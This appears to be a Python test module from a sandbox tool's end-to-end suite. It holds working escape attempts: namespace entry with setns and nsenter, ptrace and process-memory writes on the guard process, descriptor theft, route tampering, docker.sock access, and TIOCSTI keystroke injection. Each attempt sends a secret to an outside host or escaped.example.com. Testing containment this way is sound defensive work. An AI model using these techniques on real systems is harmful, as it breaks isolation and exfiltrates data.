"""Programs that know of the air gap, and try to undo it or to go around it.

What one gained it uses, for the witness to see; what cannot be seen there it says as ``gained``. At its end it says
``tried``.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

from e2e.egress import NOT_HERE, PYTHON, Way
from e2e.low_calls import OLD_CALLS, RACE, RAW, RING, VSOCK
from e2e.world import ABSTRACT, DAEMON, DATAGRAMS, OUTSIDE, SECRET

_HEAD = f"""
import contextlib, ctypes, os, socket, struct, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
GUARD, DOOR = int(os.environ["GUARD"]), int(os.environ["DOOR"])
SECRET_AT = int(os.environ["SECRET_AT"])
OUTSIDE, DATAGRAMS, DAEMON, ABSTRACT = {OUTSIDE!r}, {DATAGRAMS}, {DAEMON!r}, {ABSTRACT!r}
WORD = {SECRET.encode()!r}
trying = lambda: contextlib.suppress(OSError, subprocess.SubprocessError)

def gained(what):
    print("gained", what, flush=True)

def speak(family, address, kind=socket.SOCK_STREAM):
    with trying(), socket.socket(family, kind) as one:
        one.settimeout(5)
        one.connect(address)
        one.sendall(WORD)

def out():
    speak(socket.AF_INET, (OUTSIDE, 443))
    speak(socket.AF_INET, (OUTSIDE, DATAGRAMS), socket.SOCK_DGRAM)
    with trying():
        socket.getaddrinfo("escaped.example.com", 80)

def address(host, port):
    return struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)

def call(number, *words):
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(*map(ctypes.c_long, (number, *words)))

def not_here():
    sys.exit({NOT_HERE})
"""
_END = "\nprint('tried', flush=True)\n"


@dataclass(frozen=True)
class Escape:
    """One program.

    ``shows`` is found in what it says or in what the witness sees, when it is root's and nothing keeps it in.
    """

    id: str
    program: str
    shows: str = f"connection :443 {SECRET!r}"
    may_lack: bool = False

    @property
    def way(self) -> Way:
        """As a program to run."""
        return Way(self.id, [PYTHON, "-c", _HEAD + self.program + _END], "", may_lack=self.may_lack)


# linux/sched.h, linux/ptrace.h, asm/unistd_64.h and asm-generic/unistd.h for what stands as numbers below.
_NAMESPACES = """
def enter(process):
    for kind in ("user", "mnt", "net"):
        with trying():
            path = f"/proc/{process}/ns/{kind}"
            if os.readlink(path) != os.readlink(f"/proc/self/ns/{kind}"):
                fd = os.open(path, os.O_RDONLY)
                if libc.setns(fd, 0) == 0: gained(path)
"""
_EVERYBODY = (
    _NAMESPACES
    + """
for process in (GUARD, 1, *filter(str.isdecimal, os.listdir("/proc"))):
    enter(process)
out()
"""
)
_NSENTER = """
words = "import socket; socket.create_connection(%r, 5).sendall(%r)" % ((OUTSIDE, 443), WORD)
for process in (GUARD, os.getppid(), 1):
    for namespaces in (["-n"], ["-U", "--preserve-credentials", "-n"], ["-a"]):
        with trying():
            subprocess.run(["nsenter", "-t", str(process), *namespaces, sys.executable, "-c", words], timeout=20)
out()
"""
_PTRACE = """
libc.ptrace.restype = ctypes.c_long
if libc.ptrace(0x4206, GUARD, None, None) == 0: gained("the guard by ptrace")  # PTRACE_SEIZE
"""
_MEMORY = """
with trying(), open(f"/proc/{GUARD}/mem", "r+b", buffering=0) as memory:
    memory.seek(SECRET_AT)
    memory.write(bytes(8)); gained("the guard's memory, to write")
here = ctypes.create_string_buffer(8)
class Vector(ctypes.Structure):
    _fields_ = (("at", ctypes.c_void_p), ("length", ctypes.c_size_t))
mine, its = Vector(ctypes.addressof(here), 8), Vector(SECRET_AT, 8)
for name in ("process_vm_readv", "process_vm_writev"):
    if getattr(libc, name)(GUARD, ctypes.byref(mine), 1, ctypes.byref(its), 1, 0) == 8: gained(name)
"""
_DESCRIPTORS = """
with trying():
    process = call(434, GUARD, 0)  # pidfd_open(2)
    for number in range(3, 64):
        if call(438, process, number, 0) >= 0: gained(f"the guard's descriptor {number}")
with trying():
    for name in os.listdir(f"/proc/{GUARD}/fd"):
        with trying():
            os.open(f"/proc/{GUARD}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            gained(f"the guard's file {name}")
        with trying():
            gained(f"the name of the guard's file {name}: " + os.readlink(f"/proc/{GUARD}/fd/{name}"))
"""
_ROUTES = """
def tell(kind, body):
    with trying(), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.bind((0, 0))
        netlink.send(struct.pack("IHHII", 16 + len(body), kind, 0x5, 1, 0) + body)
        netlink.recv(4096)

inside = os.environ["LAYER"] == "netns"  # else root's routes are the outside's own
for family, scope in ((2, 254), (10, 0)) if inside else ():
    route = struct.pack("BBBBBBBBI", family, 0, 0, 0, 255, 4, scope, 2, 0) + struct.pack("HHI", 8, 4, 1)
    tell(25, route)  # RTM_DELROUTE
commands = ("ip link set lo down", "ip link set lo up", "ip addr del 127.0.0.1/8 dev lo",
            "ip route flush table local", "ip route del local default dev lo table local",
            "ip link add out type dummy", "ip rule add from all lookup main pref 0")
for command in commands if inside else ():
    with trying():
        subprocess.run(command.split(), stderr=subprocess.DEVNULL)
out()
"""
_NEW_NAMESPACES = (
    _NAMESPACES
    + """
def be_root():
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000): return
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with trying(), open(f"/proc/self/{name}", "w") as file:
            file.write(text)

be_root()
out()
enter(GUARD)
there = os.path.join(os.environ["HOME"], f"there-{os.getpid()}")
os.mkdir(there)
libc.mount(b"/run", there.encode(), None, 0x1000, None)  # what lies under the mask, if it may be had
speak(socket.AF_UNIX, there + "/docker.sock")
libc.umount2(DAEMON.encode(), 2)
speak(socket.AF_UNIX, DAEMON)
libc.unshare(0x40000000)
out()
"""
)
_DAEMON = """
folder = os.environ["HOME"]
link = os.path.join(folder, f"link-{os.getpid()}")
os.symlink(DAEMON, link)
for path in (DAEMON, link, "/proc/self/root" + DAEMON, f"/proc/{GUARD}/root{DAEMON}", "/proc/1/root" + DAEMON):
    speak(socket.AF_UNIX, path)
libc.umount2(DAEMON.encode(), 2)
speak(socket.AF_UNIX, DAEMON)
os.chdir(os.path.dirname(DAEMON))
speak(socket.AF_UNIX, "./" + os.path.basename(DAEMON))
"""
_ABSTRACT = """
speak(socket.AF_UNIX, ABSTRACT)
"""
_ABSTRACT_DATAGRAMS = """
speak(socket.AF_UNIX, ABSTRACT + b"-datagrams", socket.SOCK_DGRAM)
with trying(), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
    one.sendto(WORD, ABSTRACT + b"-datagrams")
with trying(), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
    one.sendmsg([WORD], [], 0, ABSTRACT + b"-datagrams")
"""
_KEYS = """
import fcntl, pty, select, termios
_, end = pty.openpty()
if os.fork(): sys.exit(os.waitstatus_to_exitcode(os.wait()[1]))
os.setsid()
fcntl.ioctl(end, termios.TIOCSCTTY, 0)
settings = termios.tcgetattr(end)
settings[3] &= ~termios.ICANON
termios.tcsetattr(end, termios.TCSANOW, settings)
number = 16 if os.uname().machine == "x86_64" else 29
for request in (0x5412, 0x5412 | 0x7FFFFFFF << 32):  # TIOCSTI; the kernel looks at the lower half
    key = ctypes.create_string_buffer(b"x", 1)
    call(number, end, request, ctypes.addressof(key))
if select.select([end], [], [], 0)[0]: gained("what the user types")
elif os.environ["LAYER"] == "open": not_here()  # dev.tty.legacy_tiocsti is 0
"""
ESCAPES: Sequence[Escape] = (
    Escape("setns", _EVERYBODY),
    Escape("nsenter", _NSENTER),
    Escape("ptrace", _PTRACE, "gained the guard by ptrace"),
    Escape("memory", _MEMORY, "gained process_vm_writev"),
    Escape("descriptors", _DESCRIPTORS, "gained the guard's descriptor"),
    Escape("routes", _ROUTES),
    Escape("new-namespaces", _NEW_NAMESPACES, DAEMON),
    Escape("daemon-socket", _DAEMON, DAEMON),
    Escape("abstract", _ABSTRACT, "of-another-service"),
    Escape("abstract-datagrams", _ABSTRACT_DATAGRAMS, "of-another-service-datagrams"),
    Escape("keys", _KEYS, "gained what the user types", may_lack=True),
    Escape("raw", RAW, f"datagram :{DATAGRAMS}"),
    Escape("vsock", VSOCK, "gained a socket", may_lack=True),
    Escape("ring", RING, may_lack=True),
    Escape("old-calls", OLD_CALLS, may_lack=True),
    Escape("race", RACE),
)

ROUNDS = (
    _HEAD
    + """
import signal
rounds = os.open(sys.argv[1], os.O_WRONLY)
for number in range(1_000_000):
    if not os.path.exists(sys.argv[1]):
        break
    out()
    os.write(rounds, b".")
    if sys.argv[2] == "itself" and number == 5:
        os.kill(GUARD, signal.SIGKILL)
"""
)
"""Tries again and again; each round is a byte to the pipe of its first argument, until that is removed or closed."""
